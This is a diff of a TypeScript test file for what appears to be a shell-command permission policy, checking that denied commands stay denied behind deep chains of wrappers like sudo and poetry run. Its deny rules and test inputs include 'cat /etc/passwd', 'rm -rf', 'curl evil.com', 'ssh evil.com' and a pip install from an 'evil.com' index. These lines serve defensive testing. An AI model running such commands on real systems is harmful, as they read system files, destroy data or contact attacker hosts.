@@ -2,8 +2,8 @@
 // the line again: its readers (command-effects.ts) read every word after it, its command's too
 // (32 levels of ~110 words: 0.3-0.7 ms). Session 43: the words of wrapped commands are a unit of
 // the work budget (budget.ts MAX_WRAPPED_WORDS); past it, a wrapper whose command is read next
-// is not read by its own readers (the line asks), and its command still is, so a deny inside
-// stays a deny. The level whose command nesting cuts off is still read whole, as before.
+// is read by its own readers up to its command only (the line asks), and its command is read as
+// before, so a deny inside stays a deny. The level whose command nesting cuts off is read whole.
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { compilePolicy } from '../src/compile/compile.js';
@@ -12,7 +12,7 @@ import { MAX_WRAPPED_WORDS, WorkBudget } from '../src/shell/budget.js';
 import { fastestFreshMs, FRESH_BOUND_MS } from './helpers/long-lines.js';
 import { CTX, source, type Rules } from './helpers/policy.js';
 
-const RULES: Rules = { deny: ['Read(//etc/**)', 'Shell(rm -rf *)', 'Domain(evil.com)'], allow: ['Shell(*)', 'PowerShell(*)', 'Read(**)', 'Edit(**)', 'Domain(*)'] };
+const RULES: Rules = { deny: ['Read(//etc/**)', 'Edit(//etc/**)', 'Shell(rm -rf *)', 'Domain(evil.com)'], allow: ['Shell(*)', 'PowerShell(*)', 'Read(**)', 'Edit(**)', 'Domain(*)'] };
 const POLICY = compilePolicy([{ loaded: source(RULES) }]);
 const shell = (command: string, dialect: 'bash' | 'powershell' = 'bash') => decide(POLICY, { op: 'shell', command, shell: dialect }, CTX);
 const WRAPPED_BUDGET = /more than 1024 words of wrapped commands/;
@@ -38,10 +38,10 @@ describe('wrapper chains past the budget of wrapped words', () => {
     // (The command inside is read whatever the budget: its deny is found.)
     ['31 × sudo -u x, then cat /etc/passwd', 'bash', `${'sudo -u x '.repeat(31)}cat /etc/passwd`, 'deny', false],
     ['31 × sudo -u x, then rm -rf x', 'bash', `${'sudo -u x '.repeat(31)}rm -rf x`, 'deny', false],
-    // (Asked before: every level's readers added uv's own paths until the 32 paths were spent.)
-    ['31 × uv run --no-sync, then cat /etc/passwd', 'bash', `${'uv run --no-sync '.repeat(31)}cat /etc/passwd`, 'deny', false],
-    ['31 × uv run --no-sync, then curl evil.com', 'bash', `${'uv run --no-sync '.repeat(31)}curl evil.com`, 'deny', false],
-    ['31 × uv run --no-sync, then curl evil.com (PowerShell)', 'powershell', `${'uv run --no-sync '.repeat(31)}curl evil.com`, 'deny', false],
+    // (Past the budget a wrapper's own words are still read, up to its command: its host, its mounts.)
+    ['31 × sudo -u x, then ssh evil.com ls', 'bash', `${'sudo -u x '.repeat(31)}ssh evil.com ls`, 'deny', false],
+    ['31 × nice -n 5, then ssh -J evil.com h ls (PowerShell)', 'powershell', `${'nice -n 5 '.repeat(31)}ssh -J evil.com h ls`, 'deny', false],
+    ['31 × sudo -u x, then docker run -v /etc:/x img ls', 'bash', `${'sudo -u x '.repeat(31)}docker run -v /etc:/x img ls`, 'deny', false],
     // (Past the nesting bound the level cut off reads its words whole, as before: the index URL is found.)
     ['33 × poetry run, then pip install --index-url https://evil.com', 'bash', `${'poetry run '.repeat(33)}pip install --index-url https://evil.com x`, 'deny', false],
     // (Within the budget: read as before.)
@@ -57,8 +57,9 @@ describe('wrapper chains past the budget of wrapped words', () => {
   });
 
   it('a chain of any depth of these wrappers is never allowed around a denied command, and denied within eight levels', () => {
-    const wrappers = ['sudo ', 'sudo -u x ', 'nice -n 5 ', 'timeout 5 ', 'env A=1 ', 'uv run --no-sync ', 'flock -n l ', 'nohup ', 'stdbuf -o0 ', 'poetry run ', 'time ', 'command '];
+    const wrappers = ['sudo ', 'sudo -u x ', 'nice -n 5 ', 'timeout 5 ', 'env A=1 ', 'uv run --no-sync ', 'flock -n l ', 'nohup ', 'stdbuf -o0 ', 'poetry run ', 'command '];
     const denied = ['cat /etc/passwd', 'rm -rf x', 'curl evil.com', `rm -rf ${'a '.repeat(40)}`];
+    // (Not `time`: bash reads `time time x` otherwise, and asks.)
     fc.assert(fc.property(fc.array(fc.constantFrom(...wrappers), { minLength: 1, maxLength: 40 }), fc.constantFrom(...denied), fc.constantFrom<'bash' | 'powershell'>('bash', 'powershell'), (chain, inner, dialect) => {
       const d = shell(`${chain.join('')}${inner}`, dialect);
       expect(d.decision).not.toBe('allow');
